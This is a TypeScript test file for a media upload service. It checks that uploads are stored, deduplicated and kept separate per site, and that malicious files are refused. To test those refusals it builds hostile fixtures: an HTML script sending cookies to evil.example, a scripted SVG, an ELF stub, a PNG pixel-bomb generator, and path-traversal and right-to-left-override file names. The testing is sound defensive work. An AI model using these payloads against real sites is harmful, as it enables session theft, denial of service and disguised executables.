import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { crc32, deflateSync } from 'node:zlib';
import { after, before, describe, test } from 'node:test';
import sharp from 'sharp';
import { SiteScope } from '../src/db/site-scope.ts';
import { AppError } from '../src/errors.ts';
import { findMediaById, findMediaBySha256, listMedia, listMediaTexts, saveMediaText } from '../src/media/repo.ts';
import { DiskStore } from '../src/media/storage/disk-store.ts';
import { type MediaStore, mediaKey, newTemporaryKey } from '../src/media/storage/media-store.ts';
import { storeUpload, sweepIncompleteUploads, type UploadInput } from '../src/media/upload.ts';
import type { Site } from '../src/sites/site.ts';
import { buildSite, buildTestApp, type TestApp } from './support/app.ts';
import { dialectsToTest } from './support/databases.ts';
import { noisyJpeg, pdf, sha256, storedKeys, truncatedJpeg } from './support/media.ts';
import { type LocalS3, startLocalS3 } from './support/s3rver.ts';

// Test files, made once.
const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#2f7a4d' } }).jpeg().toBuffer();
const png = await sharp({ create: { width: 32, height: 20, channels: 4, background: { r: 20, g: 90, b: 160, alpha: 0.5 } } }).png().toBuffer();
const html = Buffer.from('<!DOCTYPE html>\n<html><body><script>document.location="https://evil.example/?c="+document.cookie</script></body></html>');
const svg = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>');
const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56), Buffer.alloc(2000, 0x90)]);
const csv = Buffer.from('country,target,progress\nBelgium,3,0.42\nBénin,3,0.3\n');

/** A PNG whose header claims `width` × `height` but holds almost nothing: small on disk, huge once decoded. */
function pixelBomb(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(Buffer.alloc(width + 1))), chunk('IEND', Buffer.alloc(0))]);
}

let s3: LocalS3;
before(async () => {
  s3 = await startLocalS3();
});
after(async () => {
  await s3?.close();
});

for (const { dialect, skip } of await dialectsToTest()) {
  for (const storeKind of ['disk', 's3'] as const) {
    describe(`media uploads [${dialect}, ${storeKind}]`, { skip }, () => {
      let t: TestApp;
      let site: Site;
      let other: Site;
      let scope: SiteScope;
      let store: MediaStore;
      let stagingDir: string;

      const upload = (bytes: Buffer | Readable, filename: string, extra: Partial<UploadInput> = {}, on: SiteScope = scope) =>
        storeUpload({ scope: on, store, actorId: null, stagingDir }, { stream: Buffer.isBuffer(bytes) ? Readable.from([bytes]) : bytes, filename, ...extra });
      const rowCount = async () => (await t.services.db.kysely.selectFrom('media_files').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n;

      /** Uploads `bytes` as `filename`, expects refusal with `code`/`status`, and that nothing was kept anywhere. */
      async function assertRefused(bytes: Buffer | Readable, filename: string, code: string, status: number, extra: Partial<UploadInput> = {}) {
        const keysBefore = await storedKeys(store);
        const rowsBefore = Number(await rowCount());
        await assert.rejects(upload(bytes, filename, extra), (error: unknown) => {
          assert.ok(error instanceof AppError, `${filename}: expected an AppError, got ${String(error)}`);
          assert.equal(error.code, code, `${filename}: ${error.message}`);
          assert.equal(error.statusCode, status, filename);
          if (filename.trim()) assert.ok(error.message.includes(JSON.stringify(filename).slice(1, 20)) || error.message.includes(filename.slice(0, 20)), `the message names the file: ${error.message}`);
          return true;
        });
        assert.deepEqual(await storedKeys(store), keysBefore, `${filename}: nothing new in the store`);
        assert.equal(Number(await rowCount()), rowsBefore, `${filename}: no row`);
        assert.deepEqual(fs.readdirSync(stagingDir), [], `${filename}: no staged file left`);
      }

      before(async () => {
        t = await buildTestApp(dialect);
        site = await buildSite(t.services, { code: `media${dialect}${storeKind}`.slice(0, 20) });
        other = await buildSite(t.services, { code: `other${dialect}${storeKind}`.slice(0, 20) });
        scope = new SiteScope(t.services.db.kysely, site.id);
        stagingDir = path.join(t.database.dataDir, 'upload-staging');
        store = storeKind === 'disk' ? new DiskStore(path.join(t.database.dataDir, 'media')) : s3.store(`uploads-${dialect}`);
      });
      after(async () => {
        await t?.close();
      });

      test('stores a JPEG and a PNG with their real type, size and dimensions, and audits each', async () => {
        const photo = await upload(jpeg, 'Marais de Harchies.JPG', { declaredType: 'application/octet-stream' });
        assert.equal(photo.duplicate, false);
        assert.equal(photo.media.kind, 'image');
        assert.equal(photo.media.contentType, 'image/jpeg');
        assert.deepEqual([photo.media.width, photo.media.height], [64, 48]);
        assert.equal(photo.media.bytes, jpeg.length);
        assert.equal(photo.media.sha256, sha256(jpeg));
        assert.equal(photo.media.filename, 'Marais de Harchies.JPG');
        assert.equal(photo.media.storageKey, mediaKey(site.id, sha256(jpeg)));

        const logo = await upload(png, 'logo.png');
        assert.equal(logo.media.contentType, 'image/png');
        assert.deepEqual([logo.media.width, logo.media.height], [32, 20]);

        const stored = await store.get(logo.media.storageKey);
        assert.equal(stored.size, png.length);
        assert.equal(stored.contentType, 'image/png');
        assert.equal(sha256(Buffer.from(await stored.body.toArray().then((chunks) => Buffer.concat(chunks)))), sha256(png));
        assert.deepEqual(await storedKeys(store), [photo.media.storageKey, logo.media.storageKey].sort(), 'no temporary key left');

        const events = await t.services.db.kysely.selectFrom('audit_events').select(['action', 'subject', 'site_id']).where('action', '=', 'media.upload').where('site_id', '=', site.id).execute();
        assert.deepEqual(events.map((e) => e.subject).sort(), [`media:${photo.media.id}`, `media:${logo.media.id}`].sort());
      });

      test('stores a PDF and a CSV as documents', async () => {
        const report = await upload(pdf, 'rapport national.pdf');
        assert.deepEqual([report.media.kind, report.media.contentType, report.media.width], ['document', 'application/pdf', null]);
        const table = await upload(csv, 'progress.csv');
        assert.deepEqual([table.media.kind, table.media.contentType], ['document', 'text/csv; charset=utf-8']);
        assert.equal(await text((await store.get(table.media.storageKey)).body), csv.toString('utf8'));
      });

      test('the same bytes twice give one item and store nothing new', async () => {
        const first = await upload(jpeg, 'wetland.jpg');
        const keys = await storedKeys(store);
        const again = await upload(jpeg, 'copy of wetland.jpeg');
        assert.equal(again.duplicate, true);
        assert.equal(again.media.id, first.media.id);
        assert.deepEqual(await storedKeys(store), keys);
        assert.equal((await listMedia(scope)).filter((m) => m.sha256 === sha256(jpeg)).length, 1);
        assert.deepEqual(fs.readdirSync(stagingDir), []);
      });

      test('another site uploading the same bytes gets its own item and its own file', async () => {
        const otherScope = new SiteScope(t.services.db.kysely, other.id);
        const mine = await findMediaBySha256(scope, sha256(jpeg));
        const theirs = await upload(jpeg, 'wetland.jpg', {}, otherScope);
        assert.equal(theirs.duplicate, false);
        assert.notEqual(theirs.media.id, mine?.id);
        assert.equal(theirs.media.siteId, other.id);
        assert.equal(theirs.media.storageKey, mediaKey(other.id, sha256(jpeg)));
        assert.equal(await store.exists(theirs.media.storageKey), true);
        assert.equal((await listMedia(otherScope)).length, 1, 'the other site sees only its own file');
        assert.equal(await findMediaBySha256(otherScope, sha256(png)), undefined, 'nor the first site’s PNG');
      });

      test('keeps alt text, caption and credits per language, out of reach of another site', async () => {
        const { media } = await upload(png, 'logo.png');
        await saveMediaText(scope, media.id, { language: 'en', altText: 'Logo of the Belgian CHM', caption: '', credits: 'RBINS' });
        await saveMediaText(scope, media.id, { language: 'fr', altText: 'Logo du CHM belge', caption: 'Le logo', credits: 'IRSNB' });
        await saveMediaText(scope, media.id, { language: 'en', altText: 'Belgian CHM logo', caption: '', credits: 'RBINS' });
        assert.deepEqual(
          (await listMediaTexts(scope, media.id)).map((t) => [t.language, t.altText, t.credits]),
          [['en', 'Belgian CHM logo', 'RBINS'], ['fr', 'Logo du CHM belge', 'IRSNB']],
        );
        const otherScope = new SiteScope(t.services.db.kysely, other.id);
        assert.equal(await findMediaById(otherScope, media.id), undefined);
        assert.deepEqual(await listMediaTexts(otherScope, media.id), []);
        await assert.rejects(saveMediaText(otherScope, media.id, { language: 'en', altText: 'hijacked', caption: '', credits: '' }), (error: unknown) => error instanceof AppError && error.code === 'media_not_found');
        assert.equal((await listMediaTexts(scope, media.id)).find((t) => t.language === 'en')?.altText, 'Belgian CHM logo');
        assert.equal((await findMediaById(scope, media.id))?.decorative, false);
      });

      test('refuses an empty file', async () => {
        await assertRefused(Buffer.alloc(0), 'empty.jpg', 'media_empty', 422);
      });

      test('refuses a truncated JPEG', async () => {
        await assertRefused(truncatedJpeg, 'cut.jpg', 'media_image_unreadable', 422);
      });

      test('refuses HTML named .jpg, a PNG named .pdf, an executable and an SVG with a script', async () => {
        await assertRefused(html, 'holiday.jpg', 'media_type_refused', 415);
        await assertRefused(png, 'report.pdf', 'media_extension_mismatch', 415);
        await assertRefused(elf, 'installer', 'media_type_refused', 415);
        await assertRefused(elf, 'photo.png', 'media_type_refused', 415);
        await assertRefused(svg, 'logo.svg', 'media_svg_refused', 415);
      });

      test('refuses an image of 20000 × 20000 pixels before decoding it', async () => {
        const bomb = pixelBomb(20_000, 20_000);
        assert.ok(bomb.length < 2000, 'the bomb is small on disk');
        const started = Date.now();
        await assertRefused(bomb, 'huge.png', 'media_image_too_large', 422);
        assert.ok(Date.now() - started < 5000, 'refused from the header, not by decoding 400 megapixels');
      });

      test('refuses file names with path separators, "..", or control characters, writing nothing outside the store', async () => {
        const outside = path.dirname(stagingDir);
        const before = fs.readdirSync(outside).sort();
        await assertRefused(jpeg, '../evil.jpg', 'media_filename_invalid', 400);
        await assertRefused(jpeg, '..\\..\\evil.jpg', 'media_filename_invalid', 400);
        await assertRefused(jpeg, 'photos/evil.jpg', 'media_filename_invalid', 400);
        await assertRefused(jpeg, 'a\u0007b.jpg', 'media_filename_invalid', 400);
        await assertRefused(jpeg, 'invoice\u202Egpj.exe', 'media_filename_invalid', 400);
        await assertRefused(jpeg, `${'a'.repeat(250)}.jpg`, 'media_filename_too_long', 400);
        await assertRefused(jpeg, '   ', 'media_filename_missing', 400);
        assert.deepEqual(fs.readdirSync(outside).sort(), before);
        assert.equal(fs.existsSync(path.join(outside, '..', 'evil.jpg')), false);
      });

      test('refuses an upload over its kind’s limit while it streams, without reading the rest', async () => {
        let chunksRead = 0;
        const endless = Readable.from(
          (function* () {
            for (let i = 0; i < 1000; i++) {
              chunksRead++;
              yield Buffer.alloc(16 * 1024, 'a');
            }
          })(),
        );
        const limits = { image: 1024 * 1024, document: 64 * 1024, audio: 1024 * 1024, video: 1024 * 1024 };
        await assertRefused(endless, 'notes.txt', 'media_too_large', 413, { limits });
        assert.ok(chunksRead < 50, `stopped early (read ${chunksRead} of 1000 chunks)`);
        // An image under its own (larger) limit still passes with the same limits.
        const small = await upload(await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } }).png().toBuffer(), 'dot.png', { limits });
        assert.equal(small.media.kind, 'image');
      });

      test('after a crash mid-upload nothing is visible, the leftovers are swept, and uploading again works', async () => {
        const rowsBefore = Number(await rowCount());
        // Killed while writing the temporary object: a temporary key and a staged file remain.
        const leftover = newTemporaryKey();
        await store.put(leftover, Readable.from([noisyJpeg.subarray(0, 1000)]), { contentType: 'image/jpeg' });
        fs.writeFileSync(path.join(stagingDir, `${'0'.repeat(32)}.upload`), noisyJpeg.subarray(0, 500));
        // Killed after the commit, before the row: the file is at its final key, but no row points at it.
        const committedKey = mediaKey(site.id, sha256(noisyJpeg));
        const temporary = newTemporaryKey();
        await store.put(temporary, Readable.from([noisyJpeg]), { contentType: 'image/jpeg' });
        await store.commit(temporary, committedKey);
        assert.equal(Number(await rowCount()), rowsBefore, 'no half-visible item');
        assert.equal(await findMediaBySha256(scope, sha256(noisyJpeg)), undefined);

        assert.equal(await sweepIncompleteUploads(store, { stagingDir }), 0, 'recent leftovers may belong to a running upload');
        assert.equal(await sweepIncompleteUploads(store, { stagingDir, now: new Date(Date.now() + 2 * 60 * 60 * 1000) }), 2);
        assert.equal(await store.exists(leftover), false);
        assert.deepEqual(fs.readdirSync(stagingDir), []);

        const again = await upload(noisyJpeg, 'retry.jpg');
        assert.equal(again.duplicate, false);
        assert.equal(again.media.storageKey, committedKey);
        assert.deepEqual([again.media.width, again.media.height], [256, 256]);
        assert.equal((await store.get(committedKey)).size, noisyJpeg.length);
      });
    });
  }
}
